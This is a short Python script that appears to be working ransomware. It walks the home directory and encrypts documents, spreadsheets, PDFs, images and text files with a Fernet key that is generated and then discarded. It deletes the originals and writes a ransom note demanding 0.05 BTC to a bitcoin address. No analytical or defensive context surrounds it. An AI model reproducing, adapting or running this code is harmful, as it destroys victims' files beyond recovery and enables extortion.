import os
from cryptography.fernet import Fernet

key = Fernet.generate_key()
f = Fernet(key)
root = os.path.expanduser("~")

for dirpath, _, files in os.walk(root):
    for name in files:
        if name.endswith((".docx", ".xlsx", ".pdf", ".jpg", ".png", ".txt")):
            p = os.path.join(dirpath, name)
            try:
                with open(p, "rb") as fh:
                    enc = f.encrypt(fh.read())
                with open(p + ".locked", "wb") as fh:
                    fh.write(enc)
                os.remove(p)
            except OSError:
                pass

with open(os.path.join(root, "README_RESTORE.txt"), "w") as note:
    note.write("Your files are encrypted. Send 0.05 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n")
